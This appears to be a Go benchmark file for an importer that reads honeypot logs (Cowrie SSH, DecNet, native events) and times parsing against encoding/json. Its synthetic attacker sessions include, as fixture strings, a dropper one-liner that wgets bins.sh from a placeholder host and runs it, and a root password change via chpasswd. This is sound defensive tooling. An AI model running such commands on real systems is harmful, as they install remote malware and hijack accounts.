package importer

import (
	"bufio"
	"bytes"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"
	"time"

	"github.com/ttpcron/ttpcron"
)

// generateCowrie makes a log of n sessions with the lines that a busy SSH sensor
// writes, always the same for one n.
func generateCowrie(sessions int) []byte {
	rng := rand.New(rand.NewPCG(1, 2))
	var out bytes.Buffer
	at := time.Date(2026, 5, 4, 0, 0, 0, 0, time.UTC)
	kex := strings.Repeat("curve25519-sha256@libssh.org,ecdh-sha2-nistp256,", 8)
	commands := []string{
		`uname -s -v -n -r -m`, `cat /proc/cpuinfo | grep name | wc -l`, `w`, `uname -a`, `crontab -l`, `which ls`,
		`cd /tmp || cd /var/run || cd /mnt; wget http://192.0.2.%d/bins.sh; chmod 777 bins.sh; sh bins.sh`,
		`echo "root:%x"|chpasswd|bash`, `cat /proc/mounts; /bin/busybox PZLRD`, `ls -lh $(which ls)`,
		`echo -e "\x6F\x6B" && printf '%%s\n' "done %d"`, `free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'`,
	}
	line := func(session, eventid, more, message string) {
		at = at.Add(time.Duration(rng.IntN(900_000)) * time.Microsecond)
		quoted, _ := json.Marshal(message)
		fmt.Fprintf(&out, `{"eventid":"cowrie.%s",%s"message":%s,"sensor":"sensor-a","timestamp":"%s","src_ip":"198.51.100.%d","session":"%s"}`+"\n",
			eventid, more, quoted, at.Format("2006-01-02T15:04:05.000000Z"), len(session)+int(session[3])%200, session)
	}
	for range sessions {
		s := fmt.Sprintf("%012x", rng.Uint64()&0xffffffffffff)
		line(s, "session.connect", fmt.Sprintf(`"src_port":%d,"dst_ip":"192.0.2.10","dst_port":2222,"protocol":"ssh",`, rng.IntN(65535)), "New connection: 198.51.100.7:50123 (192.0.2.10:2222)")
		line(s, "client.version", `"version":"SSH-2.0-Go",`, "Remote SSH version: SSH-2.0-Go")
		line(s, "client.kex", fmt.Sprintf(`"hassh":"%032x","hasshAlgorithms":"%s","kexAlgs":["curve25519-sha256@libssh.org","ecdh-sha2-nistp256"],"encCS":["aes128-ctr"],`, rng.Uint64(), kex), "SSH client hassh fingerprint")
		line(s, "login.success", fmt.Sprintf(`"username":"root","password":"%x",`, rng.Uint32()), "login attempt [root/…] succeeded")
		for range rng.IntN(9) {
			c := commands[rng.IntN(len(commands))]
			if strings.Contains(c, "%") {
				c = fmt.Sprintf(c, rng.IntN(255))
			}
			quoted, _ := json.Marshal(c)
			line(s, "command.input", fmt.Sprintf(`"input":%s,`, quoted), "CMD: "+c)
		}
		line(s, "session.closed", `"duration":"3.5",`, "Connection lost after 3 seconds")
	}
	return out.Bytes()
}

// BenchmarkCowrie reads a Cowrie log into batches of events; compare with
// BenchmarkYJSON (target T11: three times as fast).
func BenchmarkCowrie(b *testing.B) { benchmarkLines(b, generateCowrie(5000)) }

// benchmarkLines reads a log into batches.
func benchmarkLines(b *testing.B, content []byte) {
	lines := bytes.Count(content, []byte("\n"))
	b.SetBytes(int64(len(content)))
	b.ReportAllocs()
	for b.Loop() {
		f, err := Open(b.Context(), Stdin, Options{Stdin: bytes.NewReader(content)})
		if err != nil {
			b.Fatal(err)
		}
		n := 0
		for batch, err := range f.Batches(b.Context()) {
			if err != nil {
				b.Fatal(err)
			}
			n += batch.Report.Lines
			if batch.Report.Rejected > 0 {
				b.Fatal(batch.Rejects[0].Reason)
			}
		}
		if n != lines {
			b.Fatalf("%d lines of %d", n, lines)
		}
	}
	b.ReportMetric(float64(lines)*float64(b.N)/b.Elapsed().Seconds(), "lines/s")
}

// BenchmarkYJSON is the yardstick: encoding/json into the same fields.
func BenchmarkYJSON(b *testing.B) {
	content := generateCowrie(5000)
	lines := bytes.Count(content, []byte("\n"))
	b.SetBytes(int64(len(content)))
	b.ReportAllocs()
	for b.Loop() {
		s := bufio.NewScanner(bytes.NewReader(content))
		s.Buffer(make([]byte, 64<<10), MaxLine)
		for s.Scan() {
			var e struct {
				EventID   string `json:"eventid"`
				Timestamp string `json:"timestamp"`
				Input     string `json:"input"`
				Session   string `json:"session"`
				Sensor    string `json:"sensor"`
				SrcIP     string `json:"src_ip"`
				Protocol  string `json:"protocol"`
			}
			if err := json.Unmarshal(s.Bytes(), &e); err != nil {
				b.Fatal(err)
			}
		}
	}
	b.ReportMetric(float64(lines)*float64(b.N)/b.Elapsed().Seconds(), "lines/s")
}

// BenchmarkDecnet reads a database of 200 attackers with 500 commands each.
func BenchmarkDecnet(b *testing.B) {
	var commands []string
	for i := range 500 {
		commands = append(commands, fmt.Sprintf(`{"service":"ssh","decky":"decky-01","command":"cat /proc/cpuinfo | grep name | wc -l # %d","timestamp":"2026-05-04T05:49:05.586207+00:00"}`, i))
	}
	path := buildDecnet(b, decnetDir, "DELETE FROM attackers; DELETE FROM canary_triggers; WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i+1 FROM n WHERE i<200) "+
		"INSERT INTO attackers SELECT 'a' || i, '192.0.2.' || i, NULL, '2026-05-04', '2026-05-04 01:00:00', '["+strings.Join(commands, ",")+"]', NULL, NULL FROM n")
	b.ReportAllocs()
	for b.Loop() {
		if r := mustRead(b, path, Options{}); len(r.Events) != 100_000 {
			b.Fatalf("%d events", len(r.Events))
		}
	}
	b.ReportMetric(100_000*float64(b.N)/b.Elapsed().Seconds(), "commands/s")
}

// BenchmarkEvents reads native events, each of which is stored; most lines of
// BenchmarkCowrie give no event.
func BenchmarkEvents(b *testing.B) {
	var content bytes.Buffer
	for i := range 20_000 {
		fmt.Fprintf(&content, `{"source_kind":"command","time":"2026-05-04T05:49:05.%06dZ","attacker_ip":"203.0.113.7","session_id":"s%d","decky_id":"sensor-a","payload":{"command_text":"uname -s -v -n -r -m"}}`+"\n", i, i/7)
	}
	benchmarkLines(b, content.Bytes())
}

// BenchmarkExported reads events as export-events writes them, for Cowrie's commands and
// for triggers with headers.
func BenchmarkExported(b *testing.B) {
	r := readBytes(b, generateCowrie(5000), Auto)
	var content []byte
	for i := range r.Events {
		e := &r.Events[i]
		if i%4 == 0 {
			e.Kind = ttpcron.CanaryFingerprint
			if err := e.Payload.SetRaw("headers", []byte(`{"user-agent":"Mozilla/5.0 (X11; Linux x86_64)","accept":"*/*","_fp":{"nav":{"pl":"Linux x86_64","lgs":["en-US","en"],"hc":8,"wd":false},"scr":{"w":1920,"h":1080}}}`)); err != nil {
				b.Fatal(err)
			}
		}
		e.ID = e.ContentID()
		content = append(e.AppendJSON(content), '\n')
	}
	benchmarkLines(b, content)
}
